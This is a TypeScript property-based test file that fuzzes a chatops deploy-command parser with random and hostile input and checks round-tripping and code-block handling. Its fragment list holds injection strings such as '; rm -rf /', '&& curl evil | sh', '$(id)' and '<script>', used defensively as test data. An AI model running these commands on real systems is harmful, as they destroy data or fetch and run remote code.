import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCommand, type Command } from '../../src/chatops/index.ts';

const hostileFragment = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(
    '/deploy',
    '/DEPLOY',
    '/redeploy',
    '/rollback',
    '/lock',
    '/unlock',
    '/status',
    '/help',
    '/deplyo',
    '/',
    ' ',
    '   ',
    '    ',
    '\t',
    '\r',
    '\r\n',
    '```',
    '~~~',
    '````',
    '>',
    '> ',
    '`',
    '\u200b',
    '\u200e',
    '\u200f',
    '\u202e',
    '\u2066',
    '\ufeff',
    '\u00a0',
    '\u3000',
    '\u2028',
    '\0',
    'main',
    'to',
    'TO',
    'production',
    'staging',
    '--dry-run',
    '--force',
    'abc1234',
    '42',
    '-rf',
    '; rm -rf /',
    '&& curl evil | sh',
    '$(id)',
    '`id`',
    '../..',
    '@{-1}',
    'HEAD~1',
    '<script>',
    '@everyone',
    '[link](javascript:alert(1))',
    '<!-- /deploy -->',
    '**bold**',
    '- [ ] /deploy',
    '# /deploy',
    'مرحبا',
    '🚀',
  ),
  fc.nat({ max: 3000 }).map((n) => 'x'.repeat(n)),
);
const hostileLine = fc.array(hostileFragment, { maxLength: 8 }).map((parts) => parts.join(''));
const hostileBody = fc
  .tuple(fc.array(hostileLine, { maxLength: 12 }), fc.constantFrom('\n', '\r\n'))
  .map(([lines, eol]) => lines.join(eol));

const shellMeta = /[\s;|&$`'"(){}<>!#*?~^:\\[\]]/;
const printableAscii = /^[\x21-\x7e]+$/;

function checkName(name: string | undefined): void {
  if (name === undefined) return;
  expect(name).toMatch(printableAscii);
  expect(name).not.toMatch(shellMeta);
}

function namesOf(command: Command): (string | undefined)[] {
  switch (command.kind) {
    case 'deploy':
      return [command.ref, command.environment];
    case 'help':
    case 'preview':
      return [];
    case 'cancel':
      return ['environment' in command.target ? command.target.environment : undefined];
    case 'rollback':
      return [command.environment, command.to && 'sha' in command.to ? command.to.sha : undefined];
    default:
      return ['environment' in command ? command.environment : undefined];
  }
}

/** The lines of a body as the parser splits them: on \n, without a trailing \r. */
function linesOf(body: string): string[] {
  return body.split('\n').map((line) => line.replace(/\r$/, ''));
}

function isCommandLine(line: string, word: string): boolean {
  const match = /^ {0,3}(\/[A-Za-z][A-Za-z0-9_-]*)(\s|$)/.exec(line);
  return match?.[1]?.toLowerCase() === `/${word}`;
}

describe('parseCommand on random and hostile text', () => {
  it('never throws, and only finds commands that were written', () => {
    fc.assert(
      fc.property(hostileBody, (body) => {
        const result = parseCommand(body);
        if (!result.ok) {
          expect(['not_a_command', 'unknown_command', 'bad_arguments']).toContain(result.reason);
          return;
        }
        const lines = linesOf(body);
        const at = lines.findIndex((line) => isCommandLine(line, result.command.kind));
        expect(at).toBeGreaterThanOrEqual(0);
        // Without code, quotes or indentation, the command line is the first non-blank line.
        if (!/[`~>\t]| {4}/.test(body)) {
          expect(lines.findIndex((line) => line.trim() !== '' && !/^[ \t]*$/.test(line))).toBe(at);
        }
        for (const name of namesOf(result.command)) checkName(name);
        if (result.command.kind === 'lock' && result.command.reason !== undefined) {
          expect(result.command.reason).not.toMatch(/[\n]/);
          expect([...result.command.reason].length).toBeLessThanOrEqual(200);
        }
      }),
      { numRuns: 3000 },
    );
  });

  it('never finds a command in a body without a / at the start of a line', () => {
    const withoutSlashLines = hostileBody.map((body) =>
      linesOf(body)
        .map((line) => (/^[ \t]*\//.test(line) ? `x${line}` : line))
        .join('\n'),
    );
    fc.assert(
      fc.property(withoutSlashLines, (body) => {
        expect(parseCommand(body)).toEqual({ ok: false, reason: 'not_a_command' });
      }),
      { numRuns: 2000 },
    );
  });
});

// Structured commands, written out with random spacing and case, must read back unchanged.
const environment = fc.stringMatching(/^[A-Za-z0-9._-]{1,64}$/).filter((e) => !e.startsWith('--'));
const component = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_+=,@%-]{0,11}(\.[A-Za-z0-9_+=,@%-]{1,6}){0,2}$/);
const ref = fc
  .array(component, { minLength: 1, maxLength: 4 })
  .map((parts) => parts.join('/'))
  .filter((r) => !/\.lock(\/|$)/.test(r) && r.toLowerCase() !== 'to');
const sha = fc.stringMatching(/^[0-9a-f]{7,40}$/).filter((s) => /[a-f]/.test(s) || s.length > 15);
const deploymentId = fc.integer({ min: 1, max: 999_999_999_999_999 });
const reason = fc
  .string({ unit: 'binary', maxLength: 200 })
  .map((r) => r.replace(/[\r\n\u2028\u2029]/g, ' ').trim())
  .filter((r) => r !== '');

// Written as days, hours or minutes below, whichever divides it.
const lockMinutes = fc.integer({ min: 1, max: 90 * 24 * 60 });
const lockDuration = (m: number): string => (m % 1440 === 0 ? `${m / 1440}d` : m % 60 === 0 ? `${m / 60}h` : `${m}m`);

const command: fc.Arbitrary<Command> = fc.oneof(
  fc.record({
    kind: fc.constant('deploy' as const),
    ref: fc.option(ref, { nil: undefined }),
    environment: fc.option(environment, { nil: undefined }),
    dryRun: fc.boolean(),
  }),
  fc.record({ kind: fc.constant('redeploy' as const), environment, dryRun: fc.boolean() }),
  fc.record({
    kind: fc.constant('rollback' as const),
    environment,
    to: fc.option(
      fc.oneof(
        sha.map((s) => ({ sha: s })),
        deploymentId.map((id) => ({ deploymentId: id })),
      ),
      { nil: undefined },
    ),
    dryRun: fc.boolean(),
  }),
  fc.record({
    kind: fc.constant('lock' as const),
    environment,
    minutes: fc.option(lockMinutes, { nil: undefined }),
    reason: fc.option(reason, { nil: undefined }),
  }),
  fc.record({
    kind: fc.constant('lock' as const),
    all: fc.constant(true as const),
    minutes: fc.option(lockMinutes, { nil: undefined }),
    reason: fc.option(reason, { nil: undefined }),
  }),
  fc.record({ kind: fc.constant('unlock' as const), environment }),
  fc.record({ kind: fc.constant('status' as const), environment: fc.option(environment, { nil: undefined }) }),
  fc.constant({ kind: 'help' as const }),
);

function words(c: Command): string[] {
  const dry = 'dryRun' in c && c.dryRun ? ['--dry-run'] : [];
  switch (c.kind) {
    case 'deploy':
      return [...(c.ref ? [c.ref] : []), ...(c.environment ? ['to', c.environment] : []), ...dry];
    case 'rollback':
      return [c.environment, ...(c.to ? ['to', 'sha' in c.to ? c.to.sha : String(c.to.deploymentId)] : []), ...dry];
    case 'lock':
      return [
        'all' in c ? '--all' : c.environment,
        ...(c.minutes !== undefined ? ['for', lockDuration(c.minutes)] : []),
        ...(c.reason ? [c.reason] : []),
      ];
    case 'redeploy':
      return [c.environment, ...dry];
    case 'unlock':
      return [c.environment];
    case 'status':
      return c.environment ? [c.environment] : [];
    default:
      return [];
  }
}

function withoutUndefined(c: Command): Command {
  return Object.fromEntries(Object.entries(c).filter(([, v]) => v !== undefined)) as Command;
}

const spacing = fc.constantFrom(' ', '  ', '\t', ' \t ');
const writtenCommand = fc
  .tuple(
    command,
    fc.array(fc.boolean(), { minLength: 10, maxLength: 10 }),
    spacing,
    fc.constantFrom('', ' ', '   '),
    fc.constantFrom('', '\n', '\n\n  \n'),
    hostileBody,
  )
  .map(([c, upper, gap, indent, before, after]) => {
    const word = [...c.kind].map((ch, i) => (upper[i] ? ch.toUpperCase() : ch)).join('');
    return { command: c, body: `${before}${indent}/${[word, ...words(c)].join(gap)}\n${after}` };
  });

describe('parseCommand reads back what was written', () => {
  it('round-trips every command form', () => {
    fc.assert(
      fc.property(writtenCommand, ({ command: c, body }) => {
        expect(parseCommand(body)).toEqual({ ok: true, command: withoutUndefined(c) });
      }),
      { numRuns: 2000 },
    );
  });

  it('ignores commands that appear only inside code blocks or quotes', () => {
    const hidden = fc
      .tuple(writtenCommand, fc.constantFrom('```', '~~~', '```sh', '````', 'quote', 'lazy', 'indent', 'tab'), fc.boolean())
      .map(([{ body }, wrap, closed]) => {
        const line = body.split('\n').find((l) => l.trim() !== '') ?? '';
        switch (wrap) {
          case 'quote':
            return `> ${line}`;
          case 'lazy':
            return `> see below\n${line}`;
          case 'indent':
            return `    ${line.trimStart()}`;
          case 'tab':
            return `\t${line.trimStart()}`;
          default:
            return `${wrap}\n${line}${closed ? `\n${wrap.slice(0, 4).replace(/sh$/, '')}` : ''}\nthanks`;
        }
      });
    fc.assert(
      fc.property(hidden, (body) => {
        expect(parseCommand(body)).toEqual({ ok: false, reason: 'not_a_command' });
      }),
      { numRuns: 1000 },
    );
  });
});
